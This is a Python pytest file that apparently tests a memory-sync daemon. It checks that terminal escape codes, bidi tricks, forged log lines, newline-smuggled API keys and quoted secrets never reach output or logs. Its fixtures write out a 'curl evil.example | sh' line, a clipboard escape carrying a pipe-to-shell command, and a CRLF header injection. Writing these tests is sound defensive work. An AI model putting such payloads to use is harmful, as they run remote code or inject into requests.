"""Nothing that a stranger wrote steers a terminal, forges a line, or shows what is secret."""

from __future__ import annotations

import json
from functools import partial
from pathlib import Path

import pytest

from mem0_syncd.core.memory_payload import GLOBAL_BEST_PRACTICES
from support.daemon import running, wait_until
from support.decision_log import decision, write_log
from support.faults import answer
from support.hostile_world import (
    BLOCKERS,
    LOG,
    PATTERNS,
    QUEUE,
    STATE,
    SYNC_STATE,
    TOML,
    HostileWorld,
    bad_characters,
)
from support.mem0_platform import Mem0Platform

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
TITLE = "\x1b]0;owned\x1b\\"
C1 = "\x9b2J\x9d0;owned\x9c"
BIDI = "\u202egnp.exe\u2066x\u2069"
HIDDEN = "\u200b\u200d\ufeff\u2060\U000e0041"
SEPARATED = "\u2028! forged: all is lost\u2029"
FORGED = "\n! forged: all is lost\n  remedy: curl evil.example | sh\r! forged"
EVIL = f"{CLIPBOARD}{TITLE}{C1}{BIDI}{HIDDEN}{SEPARATED}{FORGED}\x08\x00\x7f"


def toml(text: str) -> str:
    """A text as a basic string of TOML."""
    return '"' + "".join(it if it.isalnum() and it.isascii() else f"\\U{ord(it):08X}" for it in text) + '"'


def fill(hostile: Path) -> None:
    """Put what is evil wherever a file has a place for a text."""
    lines = {
        LOG: json.dumps(
            {
                "decisions": [
                    decision(1, title=f"A title {EVIL}", description=f"Findable {EVIL} text"),
                    decision(2, decision_id=f"DEC-{EVIL}", category=EVIL, status=EVIL),
                    decision(2, decision_id=f"DEC-{EVIL}", category=EVIL, status=EVIL, title="A twin"),
                    {"decision_id": EVIL, "timestamp": EVIL, EVIL: EVIL},
                    EVIL,
                ]
            }
        ),
        PATTERNS: json.dumps(
            {"agent": EVIL, "agent_id": f"ork:{EVIL}", "pattern": f"Findable {EVIL}", "category": EVIL}
        )
        + f"\n{EVIL}\n",
        QUEUE: json.dumps(
            {"text": "A text that is long enough", "user_id": f"x{EVIL}", "metadata": {EVIL: 1}}
        )
        + "\n",
        STATE: json.dumps({"current_task": f"A task {EVIL}", "next_steps": [EVIL], "status": EVIL}),
        BLOCKERS: json.dumps({"description": f"A blocker {EVIL}"}) + "\n",
        SYNC_STATE: json.dumps({"synced_decisions": [EVIL, 7]}),
    }
    for place, text in lines.items():
        (hostile / place).parent.mkdir(parents=True, exist_ok=True)
        (hostile / place).write_text(text, errors="surrogatepass")
    (hostile / TOML).write_text(f"{toml(EVIL)} = 1\n")


COMMANDS = (
    ["status"],
    ["status", "--json"],
    ["project", "list"],
    ["doctor"],
    ["dead", "list"],
    ["recall", "Findable"],
    ["recall", "Findable", "--json"],
    ["sync", "--timeout", "5"],
    ["verify"],
    ["verify", "--json"],
    ["forget", "--project", ".", "x"],
)


def check_harmless(said: str, what: str) -> None:
    """No character of an output steers a terminal, and no line of it is forged."""
    assert bad_characters(said) == [], what
    assert not [line for line in said.splitlines() if line.startswith(("! forged", "  remedy: curl"))], what


def test_nothing_that_a_file_says_steers_a_terminal(world: HostileWorld, hostile: Path) -> None:
    """Every command's output, on a pipe and to people, is free of control, bidi and hidden characters."""
    world.watch(hostile)
    world.mem0.fail(
        "add",
        answer(413, f"<h1>{EVIL}</h1>"),
        where=lambda body: f"{hostile.name}-decisions" in json.dumps(body),
    )
    with world.unharmed(hostile):
        fill(hostile)
        world.scan()
        world.end_session(hostile)
        wait_until(lambda: world.problems_of(hostile), "what is wrong with it")
        (hostile / TOML).write_text(f"id = {toml(EVIL)}\nexclude = [{toml(EVIL)}]\nkinds = [{toml(EVIL)}]\n")
        for arguments in COMMANDS:
            done = world.run(*arguments, cwd=hostile)
            assert "Traceback" not in done.stderr, arguments
            for said in (done.stdout, done.stderr):
                check_harmless(said, f"{arguments}: {said!r}")
        for number in dead_letters(world):
            done = world.run("dead", "show", number)
            check_harmless(done.stdout, done.stdout)
    check_harmless(world.daemon.said(), "the log")
    world.mem0.calm()


def test_a_folder_with_a_name_that_steers_is_shown_harmless(world: HostileWorld) -> None:
    """A folder's name may hold what a text may; it can be watched, shown and removed."""
    project = world.clone("a\x1b]0;owned\x07\n! forged: b\u202ec")
    with world.unharmed(project):
        for arguments in (
            ["project", "add", str(project), "--dry-run"],
            ["project", "add", str(project)],
            ["project", "list"],
            ["status"],
            ["doctor"],
            ["project", "remove", str(project)],
        ):
            done = world.run(*arguments)
            assert "Traceback" not in done.stderr
            check_harmless(done.stdout + done.stderr, f"{arguments}: {done.stdout + done.stderr!r}")


def dead_letters(world: HostileWorld) -> list[str]:
    """The numbers of the dead letters."""
    return [line.split("\t")[0] for line in world.run("dead", "list").stdout.splitlines()]


def test_what_mem0_answers_steers_no_terminal(world: HostileWorld, hostile: Path) -> None:
    """A server's words, in an error, in a memory, in an id, are shown as harmless as a file's."""
    mem0, name = world.mem0, hostile.name
    mem0.plant(f"Findable {EVIL}", user_id=GLOBAL_BEST_PRACTICES, metadata={"project": EVIL})
    mem0.plant(f"Findable {EVIL}", user_id=f"{name}-decisions", metadata={"project": EVIL, "type": EVIL})
    mem0.fail("add", answer(413, {"error": EVIL}), where=lambda body: name in json.dumps(body))
    with world.unharmed(hostile):
        world.watch(hostile)
        numbers = wait_until(partial(dead_letters, world), "a dead letter")
        for arguments in (["status"], ["dead", "list"], ["recall", "Findable"], ["verify"]):
            done = world.run(*arguments, cwd=hostile)
            check_harmless(done.stdout + done.stderr, f"{arguments}: {done.stdout + done.stderr!r}")
        for number in numbers:
            check_harmless(world.run("dead", "show", number).stdout, number)
    world.run("dead", "drop", *numbers)
    check_harmless(world.daemon.said(), "the log")


KEYS = {
    "newline": "m0-first-half\nm0-second-half",
    "carriage-return": "m0-first-half\rm0-second-half",
    "header": "m0-first-half\r\nX-Evil: m0-second-half",
    "control": "m0-first-half\x1bm0-second-half",
}


@pytest.mark.parametrize("key", KEYS.values(), ids=KEYS.keys())
@pytest.mark.parametrize("name", ["MEM0_API_KEY", "MEM0_SYNCD_SERVER__API_KEY"])
def test_a_key_with_a_break_in_it_is_refused_by_its_name_alone(
    tmp_path: Path, mem0: Mem0Platform, key: str, name: str
) -> None:
    """Nothing is started with it, and no part of it is shown or stored."""
    more = {name: key}
    if name != "MEM0_API_KEY":
        more |= {"MEM0_SYNCD_DESTINATION": "server", "MEM0_SYNCD_SERVER__URL": mem0.url}
    world = HostileWorld(tmp_path, mem0, **more)
    for arguments in (["run"], ["sync"], ["status"]):
        done = world.run(*arguments)
        said = done.stdout + done.stderr
        if arguments == ["run"]:
            assert done.returncode == 78
            assert name in said
        assert "half" not in said, said
    assert not world.traces_of(b"half")
    assert b"half" not in mem0.received


@pytest.mark.parametrize(
    "key", [" m0-test\r\n", *(pytest.param(it, marks=pytest.mark.slow) for it in ("m0-test\n", "m0-test\t"))]
)
def test_a_key_with_white_space_around_it_works(tmp_path: Path, mem0: Mem0Platform, key: str) -> None:
    """What an editor or a shell left at its ends is taken off."""
    world = HostileWorld(tmp_path, mem0, MEM0_API_KEY=key)
    with running(world.daemon):
        world.daemon.wait_delivered(1)
    assert b"Token m0-test\r\n" in mem0.received


def test_an_error_that_quotes_the_key_is_stored_without_it(tmp_path: Path, mem0: Mem0Platform) -> None:
    """A server, a proxy or a library may repeat what it was sent: the key is in no reason, status or log."""
    key = "m0-Zq8Lw3RtYv5Nc2Xd"
    world = HostileWorld(tmp_path, mem0, MEM0_API_KEY=key)
    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0" + "k1L2m3N4o5P6q7R8"
    mem0.fail("add", answer(413, {"error": f"not for {key}, nor with {token}"}), times=1)
    with running(world.daemon):
        wait_until(lambda: world.daemon.totals()["dead"], "a dead letter")
        mem0.fail("add", answer(401, {"error": f"who is {key}?"}), times=1)
        write_log(world.innocent, [decision(1), decision(2)])
        wait_until(lambda: world.daemon.status()["destination"]["state"] == "held", "a hold")
        said = [
            world.run(*it).stdout for it in (["status"], ["dead", "list"], ["dead", "show", "1"], ["doctor"])
        ]
    for secret in (key, token):
        assert not [it for it in said if secret in it]
        assert secret not in world.daemon.said()
        assert not world.traces_of(secret.encode())
